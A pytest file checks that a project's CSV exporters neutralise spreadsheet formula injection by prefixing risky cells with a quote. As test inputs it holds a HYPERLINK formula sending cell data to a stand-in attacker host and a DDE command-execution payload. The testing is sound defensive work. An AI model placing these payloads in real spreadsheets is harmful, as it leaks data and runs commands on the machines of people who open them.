"""CSV files the project writes never hand a spreadsheet a formula (no server needed)."""

import csv
import io

import pytest
from csv_safety import neutralise_formula
from export_kpis import write_csv
from import_candidates import write_report

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'


@pytest.mark.parametrize("text", [FORMULA, "+33 6 12", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1",
                                  "\uff1dHYPERLINK(\"x\")", " \uff0b1"])
def test_formula_cells_become_text(text):
    assert neutralise_formula(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Printemps 2026", "", -3, 2.5, None])
def test_other_cells_are_unchanged(value):
    assert neutralise_formula(value) == value


def test_kpi_csv_neutralises_a_campaign_name():
    output = io.StringIO()
    write_csv({"campaigns": [{"name": FORMULA, "cost": -1.0, "qualified": 3}]}, output)
    rows = list(csv.reader(io.StringIO(output.getvalue()), delimiter=";"))
    assert rows[1] == ["campaigns", f"'{FORMULA}", "-1.0", "3"]


def test_import_report_neutralises_reasons(tmp_path):
    report = tmp_path / "report.csv"
    write_report(report, [(2, {})], {2: ("rejetée", "@cmd|' /C calc'!A0", None)})
    rows = list(csv.reader(report.open(encoding="utf-8"), delimiter=";"))
    assert rows[1] == ["2", "rejetée", "'@cmd|' /C calc'!A0", ""]
